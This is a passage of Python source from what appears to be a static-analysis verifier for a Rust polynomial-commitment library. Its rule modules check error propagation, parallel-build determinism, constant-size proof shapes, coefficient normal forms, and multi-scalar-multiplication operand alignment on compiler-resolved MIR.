                chain.append((m, b, info["adt"]))
            n_var += R5S.run_chain(rep, ctx, sk, chain, "R5s")
    rep.count("R5s variants compared", n_var)
    if n_var < 40:
        rep.add("R5s", "floor", False, "only %d refusal variants found along the sibling chains (counted 80; fail closed)" % n_var, None)
    # R5i: no verifier adds entries to the claimed-evaluations map it was handed (a missing claim must be refused)
    from ..rules import noinsert as R5I
    n_maps = 0
    for a in ctx.verifier_anchors([]):
        n_maps += R5I.run(rep, ctx, a, "R5i")
    rep.count("verifier_anchors_with_claims_map", n_maps)
    if n_maps < 12:
        rep.add("R5i", "floor", False, "only %d verifier anchors take a map of claimed evaluations (floor 12): fail closed" % n_maps, None)
    # ERR-PROPAGATES over the closures of all entry points above
    seen_sites = set()
    n = 0
    for (bid, adt), g in sorted(graphs.items(), key=lambda x: (x[0][0], str(x[0][1]))):
        for sb in sorted(g.scope):
            body = f.bodies[sb]
            k = 0
            for i, t in body.calls():
                dty = g._place_ty(body, t["dst"])
                et = err_type(dty) if dty else None
                if not et:
                    continue
                callee = t.get("callee") or ""
                if callee.startswith(("std::", "core::", "alloc::")):
                    continue
                site = (sb, i, adt)
                k += 1
                if site in seen_sites:
                    continue
                seen_sites.add(site)
                n += 1
                g.reach([("STATE", (sb, t["dst"]["l"]), et)], want=OUTCOME)
                ok = g.last_goal is not None
                name = re.sub(r"<.*?>", "", t.get("resolved") or callee).replace("::::", "::")
                rep.add("ERR", "%s:err-of:%s#%d" % (short(sb), name, k - 1), ok,
                        "error of %s at %s %s" % (callee, t["span"], "is propagated" if ok else
                                                  "is discarded: the failure cannot reach the caller"), t["span"])
    rep.count("result_call_sites", n)
    for key, find, req in ABORT_ROWS:
        b = f.find1(**find)
        if b is None:
            rep.add("R5", "%s:anchor" % key, False, "entry point %s not found (fail closed)" % key, None)
            continue
        scope = f.closure([b.id], None)
        g = Graph(f, scope, [], None)      # no return sink: only aborting branches count
        g.reach([(b.id, i) for i in req if i <= b.arg_count], want=OUTCOME)
        ok = g.last_goal is not None
        rep.add("R5", "%s:aborts-on-request" % key, ok,
                "an aborting assertion depends on the request parameters" if ok else
                "no aborting branch of %s depends on its request parameters" % short(b.id), b.span)


_run_c17 = run


def run(rep, ctx, tier):
    _run_c17(rep, ctx, tier)
    # Hyrax's Pedersen helper documents "panics if key and scalars do not have the same length": it is the only refusal of
    # a row longer than the key once the key is large, and the multi-scalar call under it truncates silently (R4m)
    from ..rules import msmguard
    msmguard.run(rep, ctx, ["hyrax::"])
