"""C18: the `parallel` feature only swaps iterator kinds; parallel operations are order-insensitive."""
import collections
import re

from ..engine import short
from ..rules import rng as RNG

CONFIGS_QUICK = ["default", "nopar"]
CONFIGS_THOROUGH = ["default", "nopar", "r1cs"]
CROSS_CONFIGS = ["default", "nopar"]

EXPLANATION = (
    "Static comparison of the two builds of the crate (R13a) and a discipline check of the parallel build (R13b), both "
    "on the compiler's resolved MIR. R13a: every function body exists in both builds, and after mapping rayon's "
    "iterator entry points and adaptors to their core::iter counterparts (par_iter->iter, into_par_iter->into_iter, "
    "par_iter_mut->iter_mut, ParallelIterator/IndexedParallelIterator::{map,zip,enumerate,chain,sum,collect,unzip,"
    "for_each} -> Iterator::same) the multiset of resolved callees of each body is identical; the only tolerated "
    "residue is the site named in the property itself (Hyrax commit draws from thread_rng under `parallel`). R13b: "
    "every rayon call in the parallel build is on the allow-list of order-preserving or exactly-commutative operations "
    "(indexed collect/unzip, sum over non-float items, for_each over iter_mut), and no closure handed to rayon draws "
    "randomness (work stealing would make the stream order schedule-dependent), the same single exception aside. A body "
    "that calls something else under cfg(feature = parallel), an unordered reduction or an RNG in a parallel closure "
    "is how a result becomes build- or schedule-dependent. Nondeterminism inside dependencies is trusted.")
RULE = ("instances = one per body whose callee multisets differ before normalisation + one per rayon call site + one per "
        "closure handed to rayon; non-trivial = body contains rayon calls")

ENTRY = {"par_iter", "into_par_iter", "par_iter_mut", "iter", "into_iter", "iter_mut", "deref", "deref_mut"}
ADAPTORS = {"map", "zip", "enumerate", "chain", "sum", "collect", "unzip", "for_each", "rev", "filter", "filter_map",
            "cloned", "copied", "flat_map", "take", "skip", "step_by", "product", "min", "max", "count", "all", "any",
            "fold", "reduce", "find_any", "find_first", "position_any", "for_each_with", "try_for_each", "par_bridge",
            "collect_into_vec", "unzip_into_vecs", "with_min_len", "with_max_len", "chunks", "par_chunks", "par_chunks_mut"}
ALLOWED_RAYON = {"par_iter", "into_par_iter", "par_iter_mut", "map", "zip", "enumerate", "chain", "sum", "collect",
                 "unzip", "for_each", "rev", "cloned", "copied", "with_min_len", "with_max_len", "collect_into_vec",
                 "unzip_into_vecs", "par_chunks", "par_chunks_mut", "chunks", "take", "skip", "step_by", "min_len", "max_len"}
# E1: the one site the property itself names as feature dependent
E1_BODIES = re.compile(r"^<hyrax::HyraxPC<G, P> as PolynomialCommitment<.*>>::commit(::\{closure#\d+\})*$")
E1_RESIDUE = {"rand::thread_rng", "std::option::Option::<T>::expect", "core::option::Option::<T>::expect"}


def norm_path(p):
    return p.replace("ark_std::rand::", "rand::")


def last(p):
    return re.sub(r"<.*>", "", p).rsplit("::", 1)[-1] if p else ""


def is_rayon(c):
    return c is not None and ("rayon::" in c)


def canon(c):
    """canonical token of a callee for the build comparison; None = ignored (iterator entry / deref)."""
    if c is None:
        return "?"
    c = norm_path(c)
    l = last(c)
    if is_rayon(c):
        if l in ENTRY:
            return None
        return "ITER::" + l
    if c.startswith(("std::iter::Iterator::", "core::iter::Iterator::", "std::iter::DoubleEndedIterator::")) and l in ADAPTORS:
        return "ITER::" + l
    if l in ENTRY and ("IntoIterator" in c or "slice" in c or "Deref" in c or "vec::Vec" in c or "iter::" in c):
        return None
    return c


def callee_bag(body, normalise):
    bag = collections.Counter()
    for i, t in body.calls():
        c = t.get("resolved") or t.get("callee")
        k = canon(c) if normalise else norm_path(c or "?")
        if k is not None:
            bag[k] += 1
    return bag


def run(rep, ctx, tier):
    if ctx.cfg != "default":
        return
    f = ctx.facts
    n_rayon = 0
    closures_checked = 0
    for bid in sorted(f.bodies):
        b = f.bodies[bid]
        k = 0
        for i, t in b.calls():
            c = t.get("resolved") or t.get("callee")
            if not is_rayon(c):
                continue
            n_rayon += 1
            l = last(c)
            ok = l in ALLOWED_RAYON
            detail = "rayon %s is order-preserving / exactly commutative" % l
            if l in ("sum", "product") and re.search(r"\bf(32|64)\b", t.get("callee_args") or ""):
                ok = False
                detail = "parallel %s over floating-point items is not associative: the result depends on the schedule" % l
            if not ok and l not in ("sum", "product"):
                detail = "rayon operation `%s` is not on the allow-list of order-preserving operations: the result may depend on the schedule" % l
            rep.add("R13b", "rayon@%s#%d:%s" % (short(bid), k, l), ok, detail + " (%s)" % t["span"], t["span"])
            k += 1
            # closures handed to rayon must not draw randomness
            for a in t["args"]:
                if a["k"] in ("copy", "move"):
                    kid = b.locals[a["pl"]["l"]].get("closure")
                    if kid and kid in f.bodies:
                        closures_checked += 1
                        scope = f.closure([kid], None)
                        draws = RNG.draw_sites(f, scope, None)
                        creators = [(x, j, tt) for x in scope for j, tt in f.bodies[x].calls()
                                    if (tt.get("callee") or "") in ("rand::thread_rng", "ark_std::test_rng")]
                        bad = draws or creators
                        if bad and E1_BODIES.match(kid):
                            rep.add("R13b", "par-closure-rng@%s" % short(kid), True,
                                    "exception E1: Hyrax commit blinds each row from thread_rng inside the parallel closure "
                                    "(the property names this site; its outputs are excluded from the determinism claim)",
                                    f.bodies[kid].span, nontrivial=False)
                        else:
                            rep.add("R13b", "par-closure-rng@%s" % short(kid), not bad,
                                    "closure run by rayon draws no randomness" if not bad else
                                    "closure run by rayon draws randomness at %s: the stream each item sees depends on work stealing" % bad[0][2]["span"],
                                    f.bodies[kid].span)
    rep.count("rayon_call_sites", n_rayon)
    rep.count("parallel_closures", closures_checked)
    if n_rayon < 20:
        rep.add("R13b", "floor", False, "only %d rayon call sites found in the parallel build (floor 20): facts incomplete?" % n_rayon, None)


def run_cross(rep, ctxs, tier):
    by = {c.cfg: c for c in ctxs}
    if "default" not in by or "nopar" not in by:
        rep.note("feature diff (R13a) needs the default and nopar configurations; skipped in this run")
        return
    fa, fb = by["default"].facts, by["nopar"].facts
    if "parallel" not in fa.features or "parallel" in fb.features:
        rep.add("R13a", "configs", False, "configurations are not (parallel, sequential): %s / %s" % (fa.features, fb.features), None)
        return
    A = {norm_path(k): v for k, v in fa.bodies.items()}
    B = {norm_path(k): v for k, v in fb.bodies.items()}
    for k in sorted(set(A) ^ set(B)):
        rep.add("R13a", "body-only-in-one-build:%s" % short(k), False,
                "function body %s exists only in the %s build" % (k, "parallel" if k in A else "sequential"),
                (A.get(k) or B.get(k)).span)
    compared = 0
    differing = 0
    for k in sorted(set(A) & set(B)):
        compared += 1
        raw_a, raw_b = callee_bag(A[k], False), callee_bag(B[k], False)
        if raw_a == raw_b:
            continue
        differing += 1
        na, nb = callee_bag(A[k], True), callee_bag(B[k], True)
        only_a, only_b = na - nb, nb - na
        if E1_BODIES.match(k):
            only_a = collections.Counter({x: n for x, n in only_a.items() if x not in E1_RESIDUE})
            only_b = collections.Counter({x: n for x, n in only_b.items() if x not in E1_RESIDUE})
        ok = not only_a and not only_b
        rep.add("R13a", "feature-diff:%s" % short(k), ok,
                "builds differ only in iterator kind" if ok else
                "under `parallel` this body additionally calls %s; without it %s" % (dict(only_a) or "nothing", dict(only_b) or "nothing"),
                A[k].span)
    rep.count("bodies_compared", compared)
    rep.count("bodies_differing_before_normalisation", differing)
    if differing < 10:
        rep.add("R13a", "floor", False, "only %d bodies differ between the builds (floor 10): is the parallel feature wired at all?" % differing, None)
