"""C19: constant-size artefacts have a fixed shape; vector-bearing proofs have exactly the advertised vectors."""
from .. import tables as T

CONFIGS_QUICK = ["default"]
CONFIGS_THOROUGH = ["default", "nopar", "r1cs"]

EXPLANATION = (
    "Static walk over the type definitions the compiler resolved (R14). For every artefact the schemes advertise as "
    "constant size (KZG10 commitment and proof, Marlin / IPA commitments, the linear-code commitment with its "
    "metadata, the multilinear commitment, streaming commitment and evaluation proof) the transitive field types "
    "contain no growable container chosen by the library (Vec, VecDeque, BTreeMap/Set, HashMap/Set, String, Box<[T]>, "
    "Cow<[T]>); generic parameters and associated types are parametric. For the vector-bearing proofs the number of "
    "growable fields is exactly what the scheme advertises (IPA: two round vectors; PST13 / multilinear: one witness "
    "vector; Hyrax: one response vector; linear codes: paths, v, columns + optional well-formedness vector). A "
    "constant-size serialization cannot carry a length-prefixed sequence, so a growable field breaks the size law for "
    "every input. The same walk checks the flow engine's assumption that the crate's own types have no interior "
    "mutability and no mutable statics (with a positive fixture). R1L (first-value form): in commit / open / check of "
    "the linear-code schemes and Hyrax, whose artefact sizes follow a per-polynomial matrix shape, no single slot is "
    "filled first-wins inside a loop with a per-element value - the shape computed for the first polynomial is not "
    "imposed on the later ones. Length laws (log d rounds, 2^(n/2), sqrt balancing) "
    "are runtime facts and are not decided.")
RULE = "instances = constant-size artefacts + vector-count rows + interior-mutability / static-mut scan + 6 first-value rows"

GROWABLE = ("std::vec::Vec", "alloc::vec::Vec", "std::collections::VecDeque", "std::collections::BTreeMap",
            "std::collections::BTreeSet", "std::collections::HashMap", "std::collections::HashSet",
            "std::string::String", "alloc::string::String", "std::collections::LinkedList", "hashbrown::HashMap")
INTERIOR = ("std::cell::Cell", "std::cell::RefCell", "std::cell::UnsafeCell", "std::sync::Mutex", "std::sync::RwLock",
            "std::cell::OnceCell", "std::sync::OnceLock", "core::cell::Cell", "core::cell::RefCell")

CONSTANT = [
    "kzg10::data_structures::Commitment", "kzg10::data_structures::Proof",
    "marlin::marlin_pc::data_structures::Commitment", "ipa_pc::data_structures::Commitment",
    "linear_codes::data_structures::LinCodePCCommitment", "linear_codes::data_structures::Metadata",
    "multilinear_pc::data_structures::Commitment", "streaming_kzg::Commitment", "streaming_kzg::EvaluationProof",
]
# artefact -> exact number of growable fields (transitively, through local structs)
VECTORS = {
    "ipa_pc::data_structures::Proof": 2,
    "marlin::marlin_pst13_pc::data_structures::Proof": 1,
    "multilinear_pc::data_structures::Proof": 1,
    "hyrax::data_structures::HyraxProof": 1,
    "hyrax::data_structures::HyraxCommitment": 1,
    "linear_codes::data_structures::LinCodePCProofSingle": 3,
    "linear_codes::data_structures::LinCodePCProof": 4,
}


def growable_in(shape, adts, path, out, seen):
    k = shape["k"]
    if k == "adt":
        p = shape["path"]
        if p in GROWABLE or p.startswith("std::sync::atomic::Atomic"):
            out.append((path, p))
            return
        if p in ("std::boxed::Box", "std::borrow::Cow", "alloc::boxed::Box", "alloc::borrow::Cow"):
            for a in shape["args"]:
                if a["k"] in ("slice",) or (a["k"] == "prim" and a.get("s") == "str"):
                    out.append((path, p + "<[..]>"))
                    return
        if shape.get("local") and p in adts and p not in seen:
            seen = seen | {p}
            walk_adt(adts[p], adts, path, out, seen)
            return
        for a in shape["args"]:
            growable_in(a, adts, path, out, seen)
    elif k in ("ref", "refmut", "slice", "array", "tuple"):
        if k == "slice":
            out.append((path, "[T]"))
        for a in shape["args"]:
            growable_in(a, adts, path, out, seen)


def walk_adt(adt, adts, path, out, seen):
    for v in adt["variants"]:
        for fd in v["fields"]:
            growable_in(fd["shape"], adts, path + [fd["name"]], out, seen)


def interior_in(shape, path, out):
    if shape["k"] == "adt":
        p = shape["path"]
        if p in INTERIOR or p.startswith(("std::sync::atomic::Atomic", "core::sync::atomic::Atomic")):
            out.append((path, p))
        for a in shape["args"]:
            interior_in(a, path, out)
    else:
        for a in shape.get("args", []):
            interior_in(a, path, out)


def run(rep, ctx, tier):
    adts = ctx.facts.adts
    for name in CONSTANT:
        a = adts.get(name)
        if a is None:
            rep.add("R14", "constant:%s" % name, False, "type %s not found (fail closed)" % name, None)
            continue
        out = []
        walk_adt(a, adts, [], out, {name})
        rep.add("R14", "constant:%s" % name, not out,
                "no growable container among its fields (transitively)" if not out else
                "field %s holds a %s: the artefact can no longer have constant serialized size" % (".".join(out[0][0]), out[0][1]),
                a.get("span"))
    for name, n in VECTORS.items():
        a = adts.get(name)
        if a is None:
            rep.add("R14", "vectors:%s" % name, False, "type %s not found (fail closed)" % name, None)
            continue
        out = []
        walk_adt(a, adts, [], out, {name})
        rep.add("R14", "vectors:%s" % name, len(out) == n,
                "%d growable field(s): %s (advertised: %d)" % (len(out), ", ".join(".".join(p) for p, _ in out), n), a.get("span"))
    # assumption of the flow engine: no interior mutability in the crate's own types, no mutable statics
    bad = []
    statics = 0
    for p, a in sorted(adts.items()):
        if a["kind"] == "Static":
            statics += 1
            if a.get("mutable"):
                bad.append(([p], "static mut"))
            continue
        for v in a["variants"]:
            for fd in v["fields"]:
                interior_in(fd["shape"], [p, fd["name"]], bad)
    rep.add("R14", "assumption:no-interior-mutability", not bad,
            "none of the crate's %d types holds a Cell/RefCell/Mutex/atomic and there is no `static mut` (%d statics)" % (len(adts), statics)
            if not bad else "%s holds %s: the flow engine's aliasing model does not cover it" % (".".join(bad[0][0]), bad[0][1]), None)
    # positive fixture: the detector recognises an interior-mutable shape
    fx = []
    interior_in({"k": "adt", "path": "std::vec::Vec", "args": [{"k": "adt", "path": "std::cell::RefCell", "args": []}]}, ["fixture"], fx)
    gx = []
    growable_in({"k": "adt", "path": "std::option::Option", "local": False, "args": [{"k": "adt", "path": "std::vec::Vec", "local": False, "args": []}]},
                adts, ["fixture"], gx, set())
    rep.add("R14", "fixture:detectors", bool(fx) and bool(gx), "positive fixtures for the interior-mutability and growable-container detectors match", None)
    # R1L (first-value form) on the committers / provers whose artefact sizes follow a per-polynomial shape: the shape of
    # one polynomial's matrix (rows, columns, t) is not kept in a first-wins slot and reused for the next polynomial
    from ..rules import everyiter as R1D
    from ..flow import Graph
    from .. import tables as T
    f = ctx.facts
    n_scopes = 0
    for sk in ("linear_codes", "hyrax"):
        adt = T.SCHEMES[sk]["adt"]
        for m in ("commit", "open", "check"):
            b = f.find1(m, self_adt=adt, trait=T.PC)
            if b is None:
                rep.add("R1L", "%s.%s:anchor" % (sk, m), False, "%s.%s not found (fail closed)" % (sk, m), None)
                continue
            n_scopes += 1
            g = Graph(f, f.closure([b.id], adt), [b.id], adt)
            bad = R1D.first_value_only(g)
            rep.add("R1L", "%s.%s:no-first-value-shape" % (sk, m), not bad,
                    "no single slot is filled first-wins inside a loop with a per-element value" if not bad else
                    "the single slot filled by `%s` at %s sits in a loop and is offered a value that differs from element to "
                    "element: the first polynomial's shape is kept and imposed on every later one" % (
                        (bad[0][2].get("callee") or "?").rsplit("::", 1)[-1], bad[0][2]["span"]),
                    bad[0][2]["span"] if bad else b.span)
    rep.count("R1L scopes", n_scopes)
    # the number of opened columns (the dominant part of a linear-code proof) is capped by the number of columns:
    # C13's rules on calculate_t, attached here because the cap is a size clause
    from .c13 import calculate_t_params
    calculate_t_params(rep, ctx, rule="R11")


_run_c19 = run


def run(rep, ctx, tier):
    _run_c19(rep, ctx, tier)
    from ..rules import argswap
    argswap.attach(rep, ctx, ["linear_codes::", "hyrax::"],
                   "the matrix dimensions (and with them commitment and proof sizes) are computed from the wrong quantities")
