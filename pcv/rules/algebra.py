"""R12 NORMAL-FORM: a tiny symbolic domain for the coefficient arithmetic of the LinearCombination operators,
evaluated on the compiler's resolved HIR. Terms are sign x multiset of atoms built from Mul, Neg, Deref, clone and
copies; anything else is outside the domain and reported as undecided (fail closed)."""
from .serde import walk, strip


def pat_bindings(p, out=None):
    out = [] if out is None else out
    if not isinstance(p, dict):
        return out
    if p.get("k") == "bind":
        out.append(p["name"])
        if "sub" in p:
            pat_bindings(p["sub"], out)
    for q in p.get("pats", []) or []:
        pat_bindings(q, out)
    for f in p.get("fields", []) or []:
        pat_bindings(f[1], out)
    return out


def pat_tuple_roles(p):
    """for a parameter pattern `(a, b)` / `&(a, b)` / `a`: list of binding names by position."""
    while isinstance(p, dict) and p.get("k") == "ref":
        p = p["pats"][0]
    if p.get("k") == "tuple":
        return [pat_bindings(x)[0] if pat_bindings(x) else None for x in p["pats"]]
    b = pat_bindings(p)
    return [b[0]] if b else [None]


def nf(e, roles):
    """normal form (sign, sorted atoms) of a coefficient expression, or None if outside the domain."""
    if not isinstance(e, dict):
        return None
    k = e.get("k")
    if k == "path" and e.get("res") == "local":
        r = roles.get(e["name"])
        return (1, (r,)) if r else None
    if k == "unary":
        inner = nf(e["args"][0], roles)
        if inner is None:
            return None
        if e.get("op") == "Neg":
            return (-inner[0], inner[1])
        if e.get("op") == "Deref":
            return inner
        return None
    if k == "binary" and e.get("op") == "Mul":
        a, b = nf(e["args"][0], roles), nf(e["args"][1], roles)
        if a is None or b is None:
            return None
        return (a[0] * b[0], tuple(sorted(a[1] + b[1])))
    if k == "addrof" or k == "cast":
        return nf(e["args"][0], roles)
    if k == "mcall" and e.get("m") in ("clone", "into", "borrow", "to_owned") and not e.get("args"):
        return nf(e["recv"], roles)
    if k == "block" and not e.get("stmts") and "e" in e:
        return nf(e["e"], roles)
    return None


def fmt(t):
    if t is None:
        return "undecided"
    return ("-" if t[0] < 0 else "") + ("*".join(t[1]) or "1")


def method_calls_on_terms(h):
    """names of the methods applied (transitively, in chains) to self.terms in the body."""
    out = []
    for n in walk(h["body"]):
        if n.get("k") == "mcall":
            out.append(n["m"])
    return out


def analyse_operator(h):
    """returns dict(kind, coeff_nf, label, methods): what the operator does to (coefficient, label) pairs."""
    params = h["params"]
    roles = {}
    # params[0] is self; params[1] the right-hand side: `(coeff, other)`, `other`, or `coeff`
    rhs = pat_tuple_roles(params[1]) if len(params) > 1 else []
    rhs_ty = h["inputs"][1] if len(h.get("inputs", [])) > 1 else ""
    if len(rhs) == 2:
        roles[rhs[0]] = "k"
        roles[rhs[1]] = "other"
    elif "LinearCombination" in rhs_ty:
        roles[rhs[0]] = "other"
    else:
        roles[rhs[0]] = "k"
    res = dict(methods=method_calls_on_terms(h), coeff=None, label=None, form=None)
    nodes = walk(h["body"])
    # closure that maps / updates terms
    clos = [n for n in nodes if n.get("k") == "closure"]
    if clos:
        c = clos[0]
        cr = pat_tuple_roles(c["params"][0]) if c.get("params") else []
        r2 = dict(roles)
        if len(cr) >= 1 and cr[0]:
            r2[cr[0]] = "c"
        if len(cr) >= 2 and cr[1]:
            r2[cr[1]] = "t"
        body = c["body"]
        inner = [n for n in walk(body)]
        tup = [n for n in inner if n.get("k") == "tup" and len(n.get("args", [])) == 2]
        aop = [n for n in inner if n.get("k") == "assignop"]
        if tup:
            res["form"] = "map"
            res["coeff"] = nf(tup[0]["args"][0], r2)
            lab = nf(tup[0]["args"][1], r2)
            res["label"] = lab
        elif aop and aop[0].get("op") in ("MulAssign", "Mul"):
            res["form"] = "update"
            lhs = nf(aop[0]["args"][0], r2)
            rhs_ = nf(aop[0]["args"][1], r2)
            res["coeff"] = None if lhs is None or rhs_ is None else (lhs[0] * rhs_[0], tuple(sorted(lhs[1] + rhs_[1])))
            res["label"] = (1, ("t",))
        return res
    tup = [n for n in nodes if n.get("k") == "tup" and len(n.get("args", [])) == 2]
    if tup and "push" in res["methods"]:
        res["form"] = "push"
        res["coeff"] = nf(tup[0]["args"][0], roles)
        second = tup[0]["args"][1]
        res["label"] = (1, ("One",)) if second.get("k") == "path" and (second.get("def") or "").endswith("LCTerm::One") else None
        return res
    if "cloned" in res["methods"] and "extend" in res["methods"]:
        res["form"] = "copy"
        res["coeff"] = (1, ("c",))
        res["label"] = (1, ("t",))
    return res
