"""R12c ALIGNED-MSM-OPERANDS: a multi-scalar multiplication pairs coefficient i with key element i.

`msm(bases, scalars)` pairs the operands by position. Where the scalars handed to an msm are a *suffix view* of a
coefficient vector (`coeffs[k..]`, the leading zeros skipped by a helper that returns the count with the trimmed
vector), the bases must be sliced from an offset that is data-derived from the same k - otherwise coefficient i is
weighted by key element i - k and the commitment is not the key-defined linear map of the polynomial. The converse is
not required: bases may be shifted on their own (the shifted powers of a degree bound).

Sites: every call of `msm` / `msm_bigint` / `msm_unchecked` in the crate, and every call of a crate function that
passes two of its parameters straight on to one (`cm_commit`, `pedersen_commit`, `streaming_kzg::msm`). Both operands
are traced backwards through views, conversions and tuple-returning helpers; every slicing `x[a..]` / `x[a..b]` met on
the way contributes its start `a`.
"""
from ..engine import short
from ..flow import Graph, DATA, ALIAS

MSM = ("msm", "msm_bigint", "msm_unchecked")
INDEX = ("index", "index_mut", "get", "get_unchecked", "split_at")
THROUGH = ("deref", "as_ref", "as_slice", "borrow", "clone", "to_vec", "to_owned", "into", "iter", "into_iter", "map", "collect",
           "cloned", "copied", "as_mut", "deref_mut", "unwrap", "expect", "coeffs", "into_vec", "from", "par_iter", "into_par_iter",
           "as_deref", "branch", "rev", "skip_while", "take", "chain")


POSITION_KEEPING = ("convert_to_bigints",)


def _origin(b, l):
    """the local a plain chain of copies started from."""
    seen = set()
    while l not in seen:
        seen.add(l)
        ds = _defs(b, l)
        if len(ds) == 1 and ds[0][0] == "s" and ds[0][1].get("k") == "use" and ds[0][1]["ops"][0]["k"] in ("copy", "move") \
                and not ds[0][1]["ops"][0]["pl"]["p"]:
            l = ds[0][1]["ops"][0]["pl"]["l"]
        else:
            break
    return l


def _defs(b, l):
    out = []
    for i, blk in enumerate(b.blocks):
        if blk["cleanup"]:
            continue
        for st in blk["stmts"]:
            if st["dst"]["l"] == l and not st["dst"]["p"]:
                out.append(("s", st["rv"]))
        t = blk["term"]
        if t["k"] == "call" and t["dst"]["l"] == l and not t["dst"]["p"]:
            out.append(("c", t))
    return out


def _range_start(b, l):
    """the local holding the start of the range value in local `l` (a `a..`, `a..b`, `a..=b` literal), or None."""
    for kind, d in _defs(b, l):
        if kind == "s" and d.get("k") == "agg" and "ops::Range" in (d.get("adt") or "") and "RangeTo" not in (d.get("adt") or ""):
            flds = d.get("fields") or []
            if "start" in flds:
                op = d["ops"][flds.index("start")]
                return op["pl"]["l"] if op["k"] in ("copy", "move") else None
        if kind == "c" and (d.get("callee") or "").rsplit("::", 1)[-1] == "new" and "RangeInclusive" in (d.get("callee") or "") and d["args"]:
            op = d["args"][0]
            return op["pl"]["l"] if op["k"] in ("copy", "move") else None
    return None


def trace(f, b, l, ctx_adt, out, roots, depth=0, seen=None):
    """collect offsets (body, local) met while walking back from local `l`; `roots` receives parameter indices reached."""
    seen = seen if seen is not None else set()
    if (b.id, l) in seen or depth > 25:
        return
    seen.add((b.id, l))
    if 1 <= l <= b.arg_count:
        roots.add(l)
        return
    for k, up in (b.upvar_locals or {}).items():
        if up == l:
            # a captured variable: go on where the closure is created
            for pb in f.bodies.values():
                if pb.root != b.root and pb.id != b.root:
                    continue
                for blk in pb.blocks:
                    for st in blk["stmts"]:
                        rv = st["rv"]
                        if rv.get("k") == "agg" and rv.get("closure") == b.id and k < len(rv["ops"]) and rv["ops"][k]["k"] in ("copy", "move"):
                            trace(f, pb, rv["ops"][k]["pl"]["l"], ctx_adt, out, set(), depth + 1, seen)
            return
    for kind, d in _defs(b, l):
        if kind == "s":
            k = d.get("k")
            pl = d.get("pl") if k in ("ref", "rawptr") else (d["ops"][0].get("pl") if k in ("use", "cast") and d.get("ops") and d["ops"][0]["k"] in ("copy", "move") else None)
            if pl is None:
                continue
            comp = [e["f"] for e in pl["p"] if isinstance(e, dict) and "f" in e and not e.get("adt")]
            if comp and not any(isinstance(e, dict) and e.get("adt") for e in pl["p"]):
                # a component of a tuple: if the tuple is the result of a crate function, go on inside it
                done = False
                for k2, d2 in _defs(b, pl["l"]):
                    if k2 == "c":
                        for c in f.call_targets(d2, ctx_adt):
                            cb = f.bodies[c]
                            for blk in cb.blocks:
                                for st in blk["stmts"]:
                                    if st["dst"]["l"] == 0 and not st["dst"]["p"] and st["rv"].get("k") == "agg" and st["rv"].get("ak") == "tuple" \
                                            and comp[0] < len(st["rv"]["ops"]) and st["rv"]["ops"][comp[0]]["k"] in ("copy", "move"):
                                        trace(f, cb, st["rv"]["ops"][comp[0]]["pl"]["l"], ctx_adt, out, set(), depth + 1, seen)
                                        done = True
                if done:
                    continue
            trace(f, b, pl["l"], ctx_adt, out, roots, depth + 1, seen)
        else:
            nm = (d.get("callee") or "").rsplit("::", 1)[-1]
            args = [a for a in d["args"] if a["k"] in ("copy", "move")]
            if nm in INDEX and len(d["args"]) == 2 and args:
                if d["args"][1]["k"] in ("copy", "move"):
                    s = _range_start(b, d["args"][1]["pl"]["l"])
                    if s is not None:
                        out.add((b.id, _origin(b, s)))
                trace(f, b, args[0]["pl"]["l"], ctx_adt, out, roots, depth + 1, seen)
            elif nm in THROUGH and args:
                trace(f, b, args[0]["pl"]["l"], ctx_adt, out, roots, depth + 1, seen)
            elif nm in POSITION_KEEPING and args:
                # a crate conversion helper (`convert_to_bigints(&coeffs[k..])`): positions are kept
                trace(f, b, args[0]["pl"]["l"], ctx_adt, out, roots, depth + 1, seen)


def _common_source(g, f, o, ob):
    """the bases' offset is the other component of the very call result the scalars' offset came out of (the count
    returned next to the trimmed vector), or both are copies of one local."""
    from ..rules.lenguard import _rev
    rev = _rev(g)

    def ancestors(n, limit=400):
        seen, st = {n}, [n]
        while st and len(seen) < limit:
            x = st.pop()
            for (a, e) in rev.get(x, ()):
                if e.kind in (DATA, ALIAS) and a not in seen:
                    seen.add(a)
                    st.append(a)
        return seen
    return any(o in ancestors(x) for x in ob)


def sites(f):
    """[(body, terminator, bases operand, scalars operand)]: direct msm calls and calls of one-level wrappers."""
    direct, wrappers = [], {}
    for bid in sorted(f.bodies):
        b = f.bodies[bid]
        for i, t in b.calls():
            if (t.get("callee") or "").rsplit("::", 1)[-1] in MSM and len(t["args"]) == 2 and not b.blocks[i]["cleanup"] \
                    and not f.call_targets(t, b.self_adt):
                direct.append((b, t, t["args"][0], t["args"][1]))
    for (b, t, a0, a1) in direct:
        if b.kind == "Closure":
            continue
        r0, r1 = set(), set()
        if a0["k"] in ("copy", "move"):
            trace(f, b, a0["pl"]["l"], b.self_adt, set(), r0)
        if a1["k"] in ("copy", "move"):
            trace(f, b, a1["pl"]["l"], b.self_adt, set(), r1)
        if len(r0) == 1 and len(r1) == 1 and r0 != r1:
            wrappers[b.id] = (next(iter(r0)), next(iter(r1)))
    out = list(direct)
    for bid in sorted(f.bodies):
        b = f.bodies[bid]
        for i, t in b.calls():
            if b.blocks[i]["cleanup"]:
                continue
            for c in f.call_targets(t, b.self_adt or (f.bodies.get(b.root).self_adt if b.root in f.bodies else None)):
                if c in wrappers:
                    p0, p1 = wrappers[c]
                    if p0 - 1 < len(t["args"]) and p1 - 1 < len(t["args"]):
                        out.append((b, t, t["args"][p0 - 1], t["args"][p1 - 1]))
    return out, wrappers


def run(rep, ctx, rule="R12c"):
    f = ctx.facts
    ss, wrappers = sites(f)
    graphs = {}
    n_off = 0
    per_body = {}
    for (b, t, a0, a1) in ss:
        k = per_body.get(b.id, 0)
        per_body[b.id] = k + 1
        adt = b.self_adt or (f.bodies[b.root].self_adt if b.root in f.bodies else None)
        ob, osc = set(), set()
        if a0["k"] in ("copy", "move"):
            trace(f, b, a0["pl"]["l"], adt, ob, set())
        if a1["k"] in ("copy", "move"):
            trace(f, b, a1["pl"]["l"], adt, osc, set())
        key = "msm@%s#%d:aligned" % (short(b.id), k)
        if not osc:
            rep.add(rule, key, True, "the scalars of the msm at %s are not a suffix view of anything (%d offset(s) on the bases)" % (t["span"], len(ob)),
                    t["span"], nontrivial=False)
            continue
        n_off += len(osc)
        top = f.bodies.get(b.root, b) if b.kind == "Closure" else b
        if top.id not in graphs:
            graphs[top.id] = Graph(f, f.closure([top.id], adt), [top.id], adt)
        g = graphs[top.id]
        bad = None
        for o in sorted(osc):
            if o in ob:
                continue
            reach = {st[0] for st in g.reach([o], typed=False, kinds=(DATA, ALIAS))}
            if not any(x in reach for x in ob) and not _common_source(g, f, o, ob):
                bad = o
                break
